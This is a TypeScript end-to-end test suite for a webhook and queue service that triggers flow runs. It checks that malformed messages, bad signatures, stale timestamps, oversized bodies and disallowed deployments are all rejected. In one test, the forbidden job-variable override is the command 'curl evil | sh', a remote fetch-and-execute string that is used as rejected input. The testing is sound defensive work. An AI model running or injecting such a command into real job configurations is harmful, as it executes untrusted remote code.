/**
 * Bad input never creates a run, never crashes, and never stops the rest of a batch.
 */
import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildSignedRequest } from "../../core/cli/sign.ts";
import { handleMessage } from "../../core/runtime/handleMessage.ts";
import { sign } from "../../core/webhook/signature.ts";
import { createDeployment, createProcessPool, localStack, rest, TERMINAL, waitForState } from "./harness.ts";

const SECRET = "e2e-webhook-secret-0123456789";
let pool: string;
let allowed: { id: string; ref: string };
let other: { id: string; ref: string };
let stack: Awaited<ReturnType<typeof localStack>>;

beforeAll(async () => {
  pool = await createProcessPool();
  allowed = await createDeployment({ pool, flowName: "hello" });
  other = await createDeployment({ pool, flowName: "hello" });
  stack = await localStack({
    pools: [pool],
    webhookSecret: SECRET,
    deployments: [allowed.ref],
    allowJobVariables: ["env"],
  });
});
afterAll(async () => {
  await stack?.stop();
});

async function runCount(): Promise<number> {
  return await rest<number>("POST", "/flow_runs/count", { work_pools: { name: { any_: [pool] } } });
}

async function post(body: string, headers: Record<string, string>) {
  const res = await fetch(stack.webhookUrl ?? "", { method: "POST", headers, body });
  return {
    status: res.status,
    json: (await res.json()) as { error?: string; message?: string; flowRunId?: string },
  };
}

function signed(body: object, secret = SECRET, ts = Math.floor(Date.now() / 1000)) {
  const text = JSON.stringify(body);
  return {
    text,
    headers: {
      "content-type": "application/json",
      "x-pushpool-timestamp": String(ts),
      "x-pushpool-signature": `v1=${sign(secret, ts, text)}`,
    },
  };
}

describe("malformed queue messages", () => {
  it.each([
    ["not JSON", "{nope"],
    ["unknown kind", JSON.stringify({ v: 1, kind: "explode" })],
    [
      "wrong version",
      JSON.stringify({ v: 2, kind: "dispatch", flowRunId: randomUUID(), pool: "p", source: "x" }),
    ],
    ["bad uuid", JSON.stringify({ v: 1, kind: "dispatch", flowRunId: "123", pool: "p", source: "x" })],
    [
      "extra key",
      JSON.stringify({ v: 1, kind: "dispatch", flowRunId: randomUUID(), pool: "p", source: "x", evil: 1 }),
    ],
    [
      "bad deployment ref",
      JSON.stringify({ v: 1, kind: "trigger", deployment: "a/b/c", idempotencyKey: "k", source: "x" }),
    ],
  ])("rejects %s permanently with the reason", async (_name, body) => {
    const outcome = await handleMessage(body, stack.deps);
    expect(outcome.kind).toBe("rejected");
    expect(outcome.kind === "rejected" && outcome.reason).toMatch(/ValidationError: /);
  });

  it("rejects a trigger for an unknown deployment without creating anything", async () => {
    const before = await runCount();
    const outcome = await handleMessage(
      JSON.stringify({
        v: 1,
        kind: "trigger",
        deployment: "hello/missing",
        idempotencyKey: "k1",
        source: "cron",
      }),
      stack.deps,
    );
    expect(outcome).toMatchObject({ kind: "rejected", reason: expect.stringMatching(/not found/) });
    expect(await runCount()).toBe(before);
  });

  it("processes the good message of a batch full of bad ones", async () => {
    const before = stack.queue.stats.delivered;
    stack.queue.sendRaw("garbage");
    stack.queue.sendRaw(JSON.stringify({ v: 1, kind: "dispatch" }));
    stack.queue.sendRaw(
      JSON.stringify({
        v: 1,
        kind: "trigger",
        deployment: allowed.ref,
        idempotencyKey: randomUUID(),
        source: "batch",
      }),
    );
    stack.queue.sendRaw("[]");
    await stack.queue.idle();
    expect(stack.queue.stats.delivered - before).toBeGreaterThanOrEqual(5); // 4 + the dispatch the trigger sent
    expect(stack.queue.deadLetters).toHaveLength(0);
    const runs = await rest<{ id: string }[]>("POST", "/flow_runs/filter", {
      deployments: { id: { any_: [allowed.id] } },
    });
    expect(runs.length).toBeGreaterThanOrEqual(1);
    const done = await waitForState(runs[0]?.id ?? "", TERMINAL);
    expect(done.state_type).toBe("COMPLETED");
  });
});

describe("webhook rejections create nothing", () => {
  it.each([
    ["wrong signature", () => signed({ deployment: "x/y" }, "another-secret-0123456789"), 401],
    [
      "stale timestamp",
      () => signed({ deployment: "x/y" }, SECRET, Math.floor(Date.now() / 1000) - 301),
      401,
    ],
    [
      "future timestamp",
      () => signed({ deployment: "x/y" }, SECRET, Math.floor(Date.now() / 1000) + 301),
      401,
    ],
  ])("%s → %i", async (_n, make, status) => {
    const before = await runCount();
    const r = make();
    expect((await post(r.text, r.headers)).status).toBe(status);
    expect(await runCount()).toBe(before);
  });

  it("bad JSON → 400, oversized body → 413", async () => {
    const before = await runCount();
    const ts = Math.floor(Date.now() / 1000);
    const bad = "{not json";
    const res = await post(bad, {
      "content-type": "application/json",
      "x-pushpool-timestamp": String(ts),
      "x-pushpool-signature": `v1=${sign(SECRET, ts, bad)}`,
    });
    expect(res.status).toBe(400);
    const big = JSON.stringify({ deployment: allowed.ref, parameters: { blob: "x".repeat(256 * 1024) } });
    const res2 = await post(big, {
      "content-type": "application/json",
      "x-pushpool-timestamp": String(ts),
      "x-pushpool-signature": `v1=${sign(SECRET, ts, big)}`,
    });
    expect(res2.status).toBe(413);
    expect(await runCount()).toBe(before);
  });

  it("unknown or disallowed deployment → 4xx naming it; forbidden override → 403", async () => {
    const before = await runCount();
    const missing = signed({ deployment: "hello/does-not-exist" });
    const r1 = await post(missing.text, missing.headers);
    expect(r1.status).toBe(403); // not in this key's allow-list
    const notAllowed = signed({ deployment: other.ref });
    const r2 = await post(notAllowed.text, notAllowed.headers);
    expect(r2.status).toBe(403);
    expect(r2.json.message).toContain(other.ref);
    const override = signed({ deployment: allowed.ref, jobVariables: { command: "curl evil | sh" } });
    const r3 = await post(override.text, override.headers);
    expect(r3.status).toBe(403);
    expect(r3.json.message).toContain("command");
    expect(await runCount()).toBe(before);
  });

  it("a signed request through the CLI's signer creates and runs the flow", async () => {
    const req = buildSignedRequest({
      url: stack.webhookUrl ?? "",
      secret: SECRET,
      body: { deployment: allowed.ref, parameters: { name: "ci" }, jobVariables: { env: { FROM_CI: "1" } } },
      now: new Date(),
    });
    const res = await fetch(req.url, { method: req.method, headers: req.headers, body: req.body });
    expect(res.status).toBe(202);
    const { flowRunId } = (await res.json()) as { flowRunId: string };
    const done = await waitForState(flowRunId, TERMINAL);
    expect(done.state_type).toBe("COMPLETED");
    expect(done.parameters).toMatchObject({ name: "ci" });
    // replaying the same signed request inside the window finds the same run
    const again = await fetch(req.url, { method: req.method, headers: req.headers, body: req.body });
    expect(((await again.json()) as { flowRunId: string }).flowRunId).toBe(flowRunId);
    expect(stack.logger.lines.join("\n")).not.toContain(SECRET);
  });
});
